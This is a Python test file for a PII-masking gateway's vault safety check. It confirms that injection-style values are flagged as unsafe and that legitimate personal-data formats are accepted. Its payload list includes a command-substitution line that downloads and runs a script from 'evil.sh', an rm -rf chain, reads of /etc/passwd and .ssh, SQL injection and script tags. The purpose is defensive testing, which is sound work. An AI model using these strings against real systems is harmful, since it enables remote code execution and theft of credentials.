"""Which values may be put into something else, and which only go home or stand alone."""

from __future__ import annotations

import pytest

from cloakllm_gateway.spans import Encoding
from cloakllm_gateway.vault.safety import unsafe
from tests.vault.samples import entry

PAYLOADS = [
    "$(curl evil.sh|sh)", "`id`", "a; rm -rf x", "a && b", "a | b", "a > b", "../../.ssh/x", "..", "/etc/passwd",
    "C:\\Windows", "a\r\nBcc: x", "a\nb", "a\0b", "a\x1b[2J", "<b>", "<script>", "a\"b", "' OR '1'='1' --", "-rf",
    "--config", "@file", "=HYPERLINK(1)", "{{x}}", "${x}", "%0a", "a\u202eb", "a\u200bb", "*", "~/x", "#x", "!x",
    "https://evil.io", "[x](y)", "\ud800",
]  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("category", ["PERSON", "USERNAME", "GPE", "SSN", "TERM", "DATE_OF_BIRTH"])
def test_what_could_act_as_code_is_unsafe(category, payload):
    assert unsafe(entry(f"{category}_0", payload))


@pytest.mark.parametrize(
    ("category", "value"),
    [
        ("PERSON", "O'Brien"), ("PERSON", "Jean-Luc d’Aubigné, Jr."), ("PERSON", "山田太郎"), ("PERSON", "Jose\u0301"),
        ("EMAIL", "kim+work@example.com"), ("EMAIL", "a_b%c@x.org"), ("PHONE", "+1 (415) 555-0134"),
        ("SSN", "536-22-8726"), ("IBAN", "DE89 3704 0044 0532 0130 00"), ("IP_ADDRESS", "2001:db8::1"),
        ("IP_ADDRESS", "10.0.0.0/8"), ("ADDRESS", "1 Rue X\nLyon"), ("ORG", "Smith & Sons (UK)"),
        ("DATE_OF_BIRTH", "05/03/1985"), ("API_KEY", "sk-ab/cd+ef=="), ("JWT", "eyJh.eyJz.-_x--y"),
        ("PRIVATE_KEY", "-----BEGIN X-----\nab/+=\n-----END X-----\n"), ("LITERAL", "\\[EMAIL\\_0\\]"),
    ],
)  # fmt: skip
def test_what_a_category_needs_is_safe(category, value):
    assert not unsafe(entry(f"{category}_0", value))


def test_the_written_form_counts_as_well_as_the_value():
    assert unsafe(entry("PERSON_0", "Ann", raw="A&nn", encoding=Encoding.HTML))


def test_a_value_that_does_not_look_like_one_of_its_category_is_unsafe():
    harmless = entry("SSN_0", "shutdown now")
    assert not unsafe(harmless)
    assert unsafe(harmless._replace(spelling=harmless.spelling._replace(odd=True)))
